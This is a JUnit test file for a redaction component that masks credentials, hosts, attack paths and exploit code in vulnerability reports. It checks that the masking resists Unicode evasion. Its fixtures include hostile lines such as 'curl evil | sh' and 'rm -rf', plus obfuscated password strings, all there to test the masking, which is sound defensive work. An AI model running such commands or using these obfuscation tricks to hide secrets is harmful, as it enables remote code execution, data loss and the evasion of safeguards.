package org.sekisho.ejb.gateway.redaction;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.util.ArrayList;
import java.util.EnumSet;
import java.util.HashSet;
import java.util.List;
import java.util.Set;
import java.util.stream.Stream;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestFactory;
import org.sekisho.domain.agreement.clause.SensitiveMatter;
import org.sekisho.domain.report.ReportContent;
import org.sekisho.domain.report.ReportContent.Component;
import org.sekisho.domain.report.ReportContent.Exhibit;
import org.sekisho.domain.report.redaction.MaskedContent;
import org.sekisho.domain.report.redaction.Masking;
import org.sekisho.domain.report.redaction.Passage;

class PublishedRulesTest {

    private static final List<Rule> RULES = RuleFile.published();
    private static final PublishedRules ALL = new PublishedRules();

    @TestFactory
    Stream<DynamicTest> everyRuleFindsItsExamplesAndNothingInnocent() {
        return RULES.stream()
                .map(rule -> DynamicTest.dynamicTest(rule.id(), () -> {
                    PublishedRules alone = new PublishedRules(List.of(rule));
                    assertFalse(rule.examples().isEmpty(), "has an example");
                    assertFalse(rule.innocent().isEmpty(), "has something innocent");
                    for (String example : rule.examples()) {
                        List<String> wanted = new ArrayList<>();
                        String text = plain(example, wanted);
                        assertEquals(wanted, found(alone, text), example);
                        for (String each : wanted) {
                            assertFalse(masked(ALL, text).contains(each), "all rules together mask it too: " + example);
                        }
                    }
                    for (String innocent : rule.innocent()) {
                        assertEquals(List.of(), found(alone, innocent), innocent);
                    }
                }));
    }

    @Test
    void everyRuleHasAnIdOfItsOwnAndSomethingThatItGoesBy() {
        Set<String> ids = new HashSet<>();
        for (Rule rule : RULES) {
            assertTrue(ids.add(rule.id()), rule.id());
            assertTrue(rule.near().keywords().isEmpty() == rule.near().digits() > 0, rule.id());
        }
        assertTrue(RULES.size() > 35);
    }

    @Test
    void whatIsHiddenOrDisguisedIsFoundWhereItStandsInTheOriginal() {
        for (String text : List.of(
                "x p\u200ba\u202ess\u2060word=hunter2! y",
                "x \uff50\uff41\uff53\uff53\uff57\uff4f\uff52\uff44\uff1dhunter2! y",
                "x p\u0430ssw\u043erd=hunter2! y",
                "x \ud835\udc29\ud835\udc1assword=hunter2! y",
                "\u304b\u3099 password=hunter2! y")) {
            assertEquals(List.of("hunter2!"), found(ALL, text), text);
        }
        String zero = "password=hun\u200bter2! y";
        assertEquals(List.of("hun\u200bter2!"), found(ALL, zero));
    }

    @Test
    void textInTagCharactersNeverGoesOut() {
        StringBuilder hidden = new StringBuilder("seen ");
        "secret".codePoints().forEach(c -> hidden.appendCodePoint(0xe0000 + c));
        assertEquals("seen [\u25a0 CREDENTIALS]", masked(ALL, hidden.toString()));
    }

    @Test
    void fencedBlocksAreExploitCodeAlsoWhenNobodyClosesThem() {
        assertEquals(
                "a\n```python\n[\u25a0 EXPLOIT_CODE]```\nb",
                masked(ALL, "a\n```python\nimport socket\n\nrun()\n```\nb"));
        assertEquals("~~~\n[\u25a0 EXPLOIT_CODE]", masked(ALL, "~~~\nrm -rf\n```\nstill"));
        assertEquals("a `b` c", masked(ALL, "a `b` c"));
    }

    @Test
    void aBlockIsFencedHoweverItsFenceIsTypedOrWhereverItStands() {
        for (String fence : List.of(
                "- ```",
                "* - ~~~",
                "10. ```",
                "> 1) ```",
                "\u200b```",
                "`\u200b``",
                "\u3000```",
                "\u00a0```",
                "\uff40\uff40\uff40")) {
            String end = fence.contains("~") ? "~~~" : "```";
            assertEquals(
                    "a\n" + fence + "sh\n[\u25a0 EXPLOIT_CODE]  " + end + "\nprose",
                    masked(ALL, "a\n" + fence + "sh\ncurl evil | sh\n  " + end + "\nprose"),
                    fence);
        }
        assertEquals("-```\nprose", masked(ALL, "-```\nprose"), "no marker of a list without a space");
        assertEquals(
                "```\n[\u25a0 EXPLOIT_CODE]```\nprose",
                masked(ALL, "```\n- ```\nstill code\n```\nprose"),
                "a list item doesn't end a block");
    }

    @Test
    void marksAreMarksInFullWidthToo() {
        assertEquals(
                "\u63a5\u7d9a\u5148\u306f[\u25a0 HOSTS]\u3067\u3059",
                masked(
                        ALL,
                        "\u63a5\u7d9a\u5148\u306f\uff3b\uff3bhosts\uff1a\u57fa\u5e79\u7cfb\uff3d\uff3d\u3067\u3059"));
        assertEquals("[\u25a0 ATTACK_PATHS]", masked(ALL, "[[\uff50\uff41\uff54\uff48\uff1a VPN]\u200b]"));
    }

    @Test
    void whatStandsAmongIdentifiersAndWeaknessesIsMaskedAndTheirNumbersAreNot() {
        List<String> numbers = List.of(
                "CVE-2026-1234567",
                "GHSA-jfh8-c2jp-5v3q",
                "RHSA-2026:1234",
                "JVNDB-2026-000001",
                "JVN#12345678",
                "JVNVU#91234567",
                "PYSEC-2026-12",
                "RUSTSEC-2026-0001",
                "GO-2026-1234",
                "USN-1234-1",
                "DSA-5678-1",
                "ICSA-26-123-01",
                "EUVD-2026-12345",
                "VU#123456",
                "KB5034441",
                "ZDI-26-123");
        ReportContent content = new ReportContent(
                "Title",
                "",
                "",
                "",
                Stream.concat(numbers.stream(), Stream.of("ticket at pay.aoba.internal", "[[hosts: core]]"))
                        .toList(),
                List.of("CWE-79", "CWE-1321", "password=hunter2!"),
                List.of(),
                List.of(),
                List.of(),
                List.of(),
                List.of());
        ReportContent read = new Masking(ALL, EnumSet.allOf(SensitiveMatter.class))
                .content(content)
                .content();
        assertEquals(
                Stream.concat(numbers.stream(), Stream.of("ticket at [\u25a0 HOSTS 1]", "[\u25a0 HOSTS 2]"))
                        .toList(),
                read.identifiers());
        assertEquals(List.of("CWE-79", "CWE-1321", "password=[\u25a0 CREDENTIALS 3]"), read.weaknesses());
    }

    @Test
    void authorsMarkWhatNoRuleKnows() {
        assertEquals(
                "by [\u25a0 ATTACK_PATHS], then [\u25a0 HOSTS]",
                masked(ALL, "by [[path: VPN, jump box,\ncore]], then [[Hosts: mainframe 3]]"));
        assertEquals("[[note: nothing]] [[x]]", masked(ALL, "[[note: nothing]] [[x]]"));
        assertEquals("[\u25a0 CREDENTIALS]", masked(ALL, "[[credentials: never closed"));
    }

    @Test
    void aContentIsMaskedInEveryFieldAndNumberedThrough() {
        ReportContent content = new ReportContent(
                "Login on 10.0.0.1",
                "password=hunter2! on pay.aoba.internal",
                "",
                "",
                List.of("CVE-2026-1234"),
                List.of(),
                List.of(),
                List.of(new Component("lib.example", "1.2.3.4", "pkg:npm/lib.example@1.2.3.4")),
                List.of(),
                List.of(new Exhibit("Log of 10.0.0.2", "Cookie: a=bbbb\nok")),
                List.of("https://wiki01/page"));
        MaskedContent masked = new Masking(ALL, EnumSet.allOf(SensitiveMatter.class)).content(content);
        assertEquals("Login on [\u25a0 HOSTS 1]", masked.content().title());
        assertEquals(
                "password=[\u25a0 CREDENTIALS 2] on [\u25a0 HOSTS 3]",
                masked.content().text());
        assertEquals(content.components(), masked.content().components(), "products aren't hosts");
        assertEquals(
                "Log of [\u25a0 HOSTS 4]", masked.content().evidence().get(0).heading());
        assertEquals(
                "Cookie: [\u25a0 CREDENTIALS 5]\nok",
                masked.content().evidence().get(0).text());
        assertEquals(List.of("https://[\u25a0 HOSTS 6]/page"), masked.content().references());
        assertEquals("hunter2!", masked.passages().get(1).original());
        assertTrue(Masking.isMasked(masked.content()));
        assertFalse(Masking.isMasked(content));
        MaskedContent some = new Masking(ALL, Set.of(SensitiveMatter.CREDENTIALS)).content(content);
        assertEquals(content.title(), some.content().title());
        assertEquals(2, some.passages().size());
        assertEquals(content, new Masking(ALL, Set.of()).content(content).content());
    }

    @Test
    void whatStandsWhereAVectorBelongsIsMaskedUnlessItIsOne() {
        String vector = "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H";
        ReportContent content = new ReportContent(
                "Title",
                "",
                "",
                "",
                List.of(),
                List.of(),
                List.of(vector, "password=hunter2! on pay.aoba.internal", "[[hosts: pay-db01]]"),
                List.of(),
                List.of(),
                List.of(),
                List.of());
        assertEquals(
                List.of(vector, "password=[\u25a0 CREDENTIALS 1] on [\u25a0 HOSTS 2]", "[\u25a0 HOSTS 3]"),
                new Masking(ALL, EnumSet.allOf(SensitiveMatter.class))
                        .content(content)
                        .content()
                        .vectors());
    }

    @Test
    void whatItsAuthorMarkedIsMaskedInAComponentToo() {
        Component product = new Component(
                "lib.example on [[hosts: pay-db01]]", "1.2.3.4 [[path: by VPN]]", "pkg:npm/lib.example@1.2.3.4");
        ReportContent content = new ReportContent(
                "Title",
                "",
                "",
                "",
                List.of(),
                List.of(),
                List.of(),
                List.of(product),
                List.of(),
                List.of(),
                List.of());
        assertEquals(
                List.of(new Component(
                        "lib.example on [\u25a0 HOSTS 1]", "1.2.3.4 [\u25a0 ATTACK_PATHS 2]", product.identifier())),
                new Masking(ALL, EnumSet.allOf(SensitiveMatter.class))
                        .content(content)
                        .content()
                        .components());
        assertEquals(
                content,
                new Masking(ALL, Set.of(SensitiveMatter.CREDENTIALS))
                        .content(content)
                        .content());
    }

    @Test
    void aMaskThatIsLongerThanItsPassageStillFits() {
        ReportContent full = ReportContent.of("10.0.0.1 ".repeat(22).strip(), "");
        Masking masking = new Masking(ALL, Set.of(SensitiveMatter.HOSTS));
        assertTrue(masking.content(full).content().title().length() <= ReportContent.TITLE_LIMIT);
    }

    @Test
    void hostileTextsTakeNoLongerThanOthers() {
        for (String unit :
                List.of("@", "0.", "::", "-----BEGIN ", "password", "://", "eyJ", "a.jp", "[[hosts:", "```\n", "0-")) {
            String text = unit.repeat(400_000 / unit.length());
            long begin = System.nanoTime();
            ALL.find(text);
            long seconds = (System.nanoTime() - begin) / 1_000_000_000;
            assertTrue(seconds < 20, unit + " took " + seconds + " s");
        }
    }

    private static String plain(String example, List<String> wanted) {
        StringBuilder text = new StringBuilder();
        int at = 0;
        for (int open = example.indexOf('\u00ab'); open >= 0; open = example.indexOf('\u00ab', at)) {
            int close = example.indexOf('\u00bb', open);
            text.append(example, at, open);
            wanted.add(example.substring(open + 1, close));
            text.append(wanted.get(wanted.size() - 1));
            at = close + 1;
        }
        return text.append(example.substring(at)).toString();
    }

    private static List<String> found(PublishedRules rules, String text) {
        return rules.find(text).stream()
                .map(each -> text.substring(each.from(), each.to()))
                .toList();
    }

    private static String masked(PublishedRules rules, String text) {
        assertTrue(rules.find(text).stream().map(Passage::to).allMatch(end -> end <= text.length()));
        return new Masking(rules, EnumSet.allOf(SensitiveMatter.class)).text(text);
    }
}
